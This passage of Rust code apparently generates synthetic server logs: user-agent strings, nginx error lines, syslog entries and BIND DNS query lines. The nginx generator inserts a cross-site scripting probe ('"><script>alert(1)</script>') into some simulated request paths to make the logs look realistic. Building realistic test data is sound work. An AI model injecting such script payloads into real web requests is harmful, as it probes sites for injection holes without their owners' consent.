            // New versions are seen more than old ones.
            for _ in 0..(12 - back) / 4 + 1 {
                all.push(format!("Mozilla/5.0 ({system}) {engine} Chrome/{chrome}.0.0.0 Safari/537.36"));
            }
            let firefox = chrome + 3;
            all.push(format!("Mozilla/5.0 ({system}; rv:{firefox}.0) Gecko/20100101 Firefox/{firefox}.0"));
        }
        all.push(format!(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) {engine} Chrome/{chrome}.0.0.0 Safari/537.36 Edg/{chrome}.0.0.0"
        ));
        for _ in 0..5 {
            all.push(format!("Mozilla/5.0 (Linux; Android 10; K) {engine} Chrome/{chrome}.0.0.0 Mobile Safari/537.36"));
        }
        let (ios, safari) = (18 - back / 4, 6 - back / 2);
        for _ in 0..4 {
            all.push(format!(
                "Mozilla/5.0 (iPhone; CPU iPhone OS {ios}_{safari} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{ios}.{safari} Mobile/15E148 Safari/604.1"
            ));
        }
        all.push(format!(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{ios}.{safari} Safari/605.1.15"
        ));
        all.push(format!(
            "Mozilla/5.0 (Linux; Android 14; SM-S91{back}B) {engine} SamsungBrowser/27.0 Chrome/{chrome}.0.0.0 Mobile Safari/537.36"
        ));
    }
    all
}

// ── nginx error log ─────────────────────────────────────────────────────────────────────────────────────

/// nginx's error log: a message and then the context, each part after a comma.
struct ErrorLog {
    clients: Zipf,
    salt: u64,
    workers: [u64; 4],
    connection: u64,
}

impl ErrorLog {
    fn new(bytes: u64, rng: &mut Rng) -> Self {
        let workers = std::array::from_fn(|_| 900 + u64::from(rng.below(30_000)));
        Self { clients: Zipf::new((bytes / 20_000).max(500) as u32), salt: rng.next(), workers, connection: 1 }
    }

    fn push_path(&self, out: &mut Vec<u8>, hash: u64) {
        out.text("/").text(word(hash, 0)).text("/");
        push_slug(out, hash >> 6);
        out.text(if hash >> 40 & 1 == 0 { ".php" } else { ".html" });
    }
}

impl Lines for ErrorLog {
    fn per_second(&self) -> u32 {
        32
    }

    fn stamp(&self, time: &Civil, out: &mut Vec<u8>) {
        out.number(u64::from(time.year)).text("/").padded(time.month as u32 + 1, 2).text("/").padded(time.day, 2);
        out.text(" ").padded(time.hour, 2).text(":").padded(time.minute, 2).text(":").padded(time.second, 2).text(" [");
    }

    fn line(&mut self, rng: &mut Rng, _clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts {
        out.extend_from_slice(stamp);
        let random = rng.next();
        let kind = random & 0x3ff;
        let level = match kind {
            0..560 => "error",
            560..800 => "warn",
            800..900 => "info",
            900..960 => "notice",
            960..1010 => "crit",
            1010..1022 => "alert",
            _ => "emerg",
        };
        let worker = self.workers[(random >> 10 & 3) as usize];
        out.text(level).text("] ").number(worker).text("#").number(worker).text(": ");
        let cuts = Cuts { head: stamp.len(), request: None };

        // What concerns the server and no request has no context.
        if (900..960).contains(&kind) {
            match random >> 12 & 3 {
                0 => out.text("signal 17 (SIGCHLD) received from ").number(worker + 7),
                1 => out.text("start worker process ").number(worker + 11),
                2 => out.text("worker process ").number(worker).text(" exited with code 0"),
                _ => out.text("using the \"epoll\" event method"),
            };
            return cuts;
        }
        if kind >= 1010 {
            match kind {
                1022.. => out.text("bind() to 0.0.0.0:443 failed (98: Address already in use)"),
                _ => out
                    .text("*")
                    .number(self.connection)
                    .text(" open socket #")
                    .number(random >> 12 & 63)
                    .text(" left in connection ")
                    .number(random >> 18 & 1023),
            };
            return cuts;
        }

        self.connection += random >> 14 & 3;
        out.text("*").number(self.connection).text(" ");
        let hash = rng.next();
        let mut upstream = None;
        match (level, random >> 16 & 7) {
            ("error", 0..4) => {
                out.text("open() \"/var/www/html");
                self.push_path(out, hash);
                out.text("\" failed (2: No such file or directory)");
            }
            ("error", 4) => {
                out.text("access forbidden by rule");
            }
            ("error", 5) => {
                out.text("connect() failed (111: Connection refused) while connecting to upstream");
                upstream = Some("http://127.0.0.1:8080");
            }
            ("error", 6) => {
                out.text("FastCGI sent in stderr: \"PHP message: PHP Warning:  Undefined array key \"").text(word(hash, 7));
                out.text("\" in /var/www/html");
                self.push_path(out, hash);
                out.text(" on line ").number(hash >> 50 & 1023).text("\" while reading response header from upstream");
                upstream = Some("fastcgi://unix:/run/php/php8.2-fpm.sock:");
            }
            ("error", _) => {
                out.text("upstream timed out (110: Connection timed out) while reading response header from upstream");
                upstream = Some("http://10.0.3.17:9000");
            }
            ("warn", 0..5) => {
                out.text("an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/");
                out.number(hash & 7)
                    .text("/")
                    .padded((hash >> 8) as u32 % 100, 2)
                    .text("/")
                    .padded((hash >> 16) as u32 % 1_000_000, 8);
                out.text(" while reading upstream");
                upstream = Some("http://10.0.3.18:9000");
            }
            ("warn", _) => {
                out.text("a client request body is buffered to a temporary file /var/cache/nginx/client_temp/");
                out.padded((hash >> 16) as u32 % 1_000_000, 8);
            }
            ("info", _) => {
                out.text("client prematurely closed connection, so upstream connection is closed too while sending request to upstream");
                upstream = Some("http://10.0.3.17:9000");
            }
            (_, _) => {
                out.text("SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking");
                out.text(", client: ");
                push_address(out, mix(self.salt ^ u64::from(self.clients.draw(rng))));
                out.text(", server: 0.0.0.0:443");
                return cuts;
            }
        }
        out.text(", client: ");
        push_address(out, mix(self.salt ^ u64::from(self.clients.draw(rng))));
        out.text(", server: www.example.com, request: \"");
        out.text(if random >> 20 & 15 == 0 { "POST " } else { "GET " });
        self.push_path(out, hash);
        if random >> 24 & 63 == 0 {
            out.text("?q=\"><script>alert(1)</script>");
        }
        out.text(if random >> 30 & 1 == 0 { " HTTP/2.0\"" } else { " HTTP/1.1\"" });
        if let Some(upstream) = upstream {
            out.text(", upstream: \"").text(upstream);
            if upstream.starts_with("http:") {
                self.push_path(out, hash);
            }
            out.text("\"");
        }
        out.text(", host: \"www.example.com\"");
        if random >> 31 & 3 == 0 {
            out.text(", referrer: \"").text(HOME).text("/");
            out.text(word(hash, 3)).text("/\"");
        }
        cuts
    }
}

// ── Syslog ──────────────────────────────────────────────────────────────────────────────────────────────

/// RFC 3164 as files hold it: no priority, no year.
struct Syslog {
    programs: Zipf,
    clients: Zipf,
    salt: u64,
    uptime_us: u64,
}

const HOSTS: [&str; 6] = ["web1", "web2", "db1", "mail", "gw", "ns1.example.com"];
const USERS: [&str; 10] = ["root", "admin", "alice", "deploy", "postgres", "oracle", "test", "ubuntu", "git", "backup"];

impl Syslog {
    fn new(rng: &mut Rng) -> Self {
        Self { programs: Zipf::new(24), clients: Zipf::new(20_000), salt: rng.next(), uptime_us: 4_711_000_000 }
    }

    fn push_client(&self, rng: &mut Rng, out: &mut Vec<u8>) {
        push_address(out, mix(self.salt ^ u64::from(self.clients.draw(rng))));
    }
}

impl Lines for Syslog {
    fn per_second(&self) -> u32 {
        77
    }

    fn stamp(&self, time: &Civil, out: &mut Vec<u8>) {
        out.text(time.name()).text(if time.day < 10 { "  " } else { " " }).number(u64::from(time.day)).text(" ");
        out.padded(time.hour, 2).text(":").padded(time.minute, 2).text(":").padded(time.second, 2).text(" ");
    }

    fn line(&mut self, rng: &mut Rng, clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts {
        out.extend_from_slice(stamp);
        let random = rng.next();
        out.text(HOSTS[(random & 0xff) as usize * HOSTS.len() / 256]).text(" ");
        let pid = 400 + (random >> 8 & 0x7fff);
        let user = USERS[(random >> 24) as usize % USERS.len()];
        let number = random >> 32 & 0xffff;
        let other = mix(random);
        match self.programs.draw(rng) {
            0 => {
                out.text("sshd[").number(pid).text("]: ");
                match random >> 50 & 7 {
                    0..3 => {
                        out.text("Failed password for invalid user ").text(user).text(" from ");
                        self.push_client(rng, out);
                        out.text(" port ").number(1024 + (number >> 1)).text(" ssh2");
                    }
                    3 | 4 => {
                        out.text("Invalid user ").text(user).text(" from ");
                        self.push_client(rng, out);
                        out.text(" port ").number(1024 + (number >> 1));
                    }
                    5 => {
                        out.text("Accepted publickey for ").text(user).text(" from ");
                        self.push_client(rng, out);
                        out.text(" port ")
                            .number(1024 + (number >> 1))
                            .text(" ssh2: ED25519 SHA256:")
                            .hex(other, 16)
                            .hex(number, 8);
                    }
                    6 => {
                        out.text("Received disconnect from ");
                        self.push_client(rng, out);
                        out.text(" port ").number(1024 + (number >> 1)).text(":11: Bye Bye [preauth]");
                    }
                    _ => {
                        out.text("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=");
                        self.push_client(rng, out);
                        out.text("  user=").text(user);
                    }
                }
            }
            1 => {
                self.uptime_us += random >> 52;
                out.text("kernel: [").number(self.uptime_us / 1_000_000).text(".").padded((self.uptime_us % 1_000_000) as u32, 6);
                out.text("] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=");
                self.push_client(rng, out);
                out.text(" DST=192.0.2.10 LEN=40 TOS=0x00 PREC=0x00 TTL=").number(40 + (number & 15));
                out.text(" ID=")
                    .number(number)
                    .text(" PROTO=TCP SPT=")
                    .number(1024 + (number >> 2))
                    .text(" DPT=23 WINDOW=1024 RES=0x00 SYN URGP=0");
            }
            2 => {
                out.text("CRON[").number(pid).text("]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)");
            }
            3 => {
                out.text("systemd[1]: ").text(if number & 1 == 0 { "Started " } else { "Finished " });
                out.text(word(other, 0))
                    .text("-")
                    .text(word(other, 1))
                    .text(".service - Run the ")
                    .text(word(other, 2))
                    .text(" job.");
            }
            4 => {
                out.text("named[").number(812).text("]: client @0x7f").hex(other, 10).text(" ");
                self.push_client(rng, out);
                out.text("#").number(1024 + (number >> 1)).text(" (").text(word(other, 6)).text(".example.net): query (cache) '");
                out.text(word(other, 6)).text(".example.net/A/IN' denied");
            }
            5 => {
                out.text("postfix/smtpd[").number(pid).text("]: connect from unknown[");
                self.push_client(rng, out);
                out.text("]");
            }
            6 => {
                out.text("postfix/qmgr[")
                    .number(1455)
                    .text("]: ")
                    .hex(other, 10)
                    .text(": from=<")
                    .text(user)
                    .text("@example.com>, size=");
                out.number(number).text(", nrcpt=1 (queue active)");
            }
            7 => {
                out.text("systemd-logind[")
                    .number(611)
                    .text("]: New session ")
                    .number(number)
                    .text(" of user ")
                    .text(user)
                    .text(".");
            }
            8 => {
                out.text("dnsmasq[")
                    .number(733)
                    .text("]: query[A] ")
                    .text(word(other, 3))
                    .text(".example.org from 192.168.1.")
                    .number(number & 255);
            }
            9 => {
                out.text("sudo: ")
                    .text(user)
                    .text(" : TTY=pts/0 ; PWD=/home/")
                    .text(user)
                    .text(" ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx");
            }
            10 => {
                out.text("dhclient[").number(590).text("]: DHCPACK of 192.168.1.").number(number & 255).text(" from 192.168.1.1");
            }
            11 => {
                out.text("NetworkManager[")
                    .number(540)
                    .text("]: <info>  [")
                    .number(clock.second)
                    .text(".")
                    .padded((number % 10_000) as u32, 4);
                out.text("] dhcp4 (eth0): state changed new lease, address=192.168.1.").number(number & 255);
            }
            12 => {
                out.text("nginx: 2026/03/09 10:00:00 [warn] ")
                    .number(pid)
                    .text("#")
                    .number(pid)
                    .text(": *")
                    .number(number)
                    .text(" upstream server temporarily disabled");
            }
            13 => {
                out.text("rsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"")
                    .number(pid)
                    .text("\"] rsyslogd was HUPed");
            }
            14 => {
                out.text("dockerd[")
                    .number(901)
                    .text("]: time=\"2026-03-09T10:00:00Z\" level=info msg=\"ignoring event\" container=")
                    .hex(other, 16)
                    .hex(random, 16);
            }
            15 => {
                out.text("smartd[")
                    .number(577)
                    .text("]: Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from ")
                    .number(60 + (number & 7))
                    .text(" to ")
                    .number(60 + (number >> 3 & 7));
            }
            16 => {
                out.text("ntpd[").number(602).text("]: Soliciting pool server ");
                self.push_client(rng, out);
            }
            17 => {
                out.text("su[").number(pid).text("]: FAILED SU (to root) ").text(user).text(" on pts/").number(number & 7);
            }
            18 => {
                out.text("mysqld[")
                    .number(1203)
                    .text("]: Aborted connection ")
                    .number(number)
                    .text(" to db: 'shop' user: 'web' host: '10.0.3.17' (Got timeout reading communication packets)");
            }
            19 => {
                out.text("haproxy[")
                    .number(1002)
                    .text("]: Server app/app")
                    .number(number & 3)
                    .text(" is DOWN, reason: Layer4 timeout, check duration: 2001ms.");
            }
            20 => {
                out.text("freshclam[")
                    .number(812)
                    .text("]: daily.cld database is up-to-date (version: ")
                    .number(27_000 + (number & 511))
                    .text(")");
            }
            21 => {
                out.text("sshd[")
                    .number(pid)
                    .text("]: message repeated ")
                    .number(2 + (number & 3))
                    .text(" times: [ Failed password for root from ");
                self.push_client(rng, out);
                out.text(" port ").number(1024 + (number >> 1)).text(" ssh2]");
            }
            22 => {
                out.text("anacron[").number(pid).text("]: Job `cron.daily' terminated");
            }
            _ => {
                out.text("auditd[").number(488).text("]: Audit daemon rotating log files");
            }
        }
        Cuts { head: 14, request: None }
    }
}

// ── BIND query log ──────────────────────────────────────────────────────────────────────────────────────

/// BIND 9's query log with `print-time`, `print-category` and `print-severity`.
struct Dns {
    clients: Zipf,
    names: Zipf,
    salt: u64,
}

impl Dns {
    fn new(bytes: u64, rng: &mut Rng) -> Self {
        let scale = (bytes / 1_000).max(1_000_000);
        Self { clients: Zipf::new((scale / 50) as u32), names: Zipf::new((scale / 4) as u32), salt: rng.next() }
    }
}

impl Lines for Dns {
    fn per_second(&self) -> u32 {
        59
    }

    fn stamp(&self, time: &Civil, out: &mut Vec<u8>) {
        out.padded(time.day, 2).text("-").text(time.name()).text("-").number(u64::from(time.year)).text(" ");
        out.padded(time.hour, 2).text(":").padded(time.minute, 2).text(":").padded(time.second, 2).text(".");
    }

    fn line(&mut self, rng: &mut Rng, clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts {
        let start = out.len();
        out.extend_from_slice(stamp);
        out.padded(clock.millis(), 3).text(" queries: info: client @0x7f");
        let random = rng.next();
        // Pointers are the same few objects over and over.
        out.hex(mix(self.salt ^ (random & 0x3ff)) & !15, 10).text(" ");
        push_address(out, mix(self.salt ^ u64::from(self.clients.draw(rng))));
        out.text("#").number(1024 + (random >> 10) % 64_512).text(" (");

        let hash = mix(self.salt ^ 0xd15 ^ u64::from(self.names.draw(rng)));
        let name = out.len();
        let kind = match random >> 32 & 0x3ff {
            0..560 => "A",
            560..790 => "AAAA",
            790..890 => "HTTPS",
            890..950 => "PTR",
            950..970 => "MX",
            970..985 => "TXT",
            985..996 => "NS",
            996..1006 => "SRV",
            1006..1012 => "SOA",
            1012..1016 => "CNAME",
            1016..1019 => "DS",
            1019..1021 => "DNSKEY",
            1021 => "ANY",
            1022 => "TYPE65535",
            _ => "CAA",
        };
        if kind == "PTR" {
            out.number(hash & 255).text(".").number(hash >> 8 & 255).text(".").number(hash >> 16 & 255).text(".");
            out.number(hash >> 24 & 255).text(".in-addr.arpa");
        } else {
            match hash >> 60 {
                0..6 => out.text("www."),
                6..8 => out.text("api."),
                8..10 => out.text("cdn").number(hash >> 50 & 7).text("."),
                10 => out.text("_").text(word(hash, 5)).text("._tcp."),
                _ => out,
            };
            out.text(word(hash, 0)).text("-").text(word(hash, 1)).number(hash >> 30 & 63);
            out.text([".com", ".net", ".org", ".example", ".co.uk", ".de", ".io", ".local"][(hash >> 40 & 7) as usize]);
        }
        let end = out.len();
        out.text("): query: ");
        out.extend_from_within(name..end);
        out.text(" IN ").text(kind).text(" ");
        out.text(rng.pick(&["+", "+E(0)", "+E(0)K", "+E(0)DC", "-E(0)", "+E(0)T", "+E(0)D", "-"]));
        out.text(" (192.0.2.53)");
        Cuts { head: name - start - 2, request: None }
    }
}
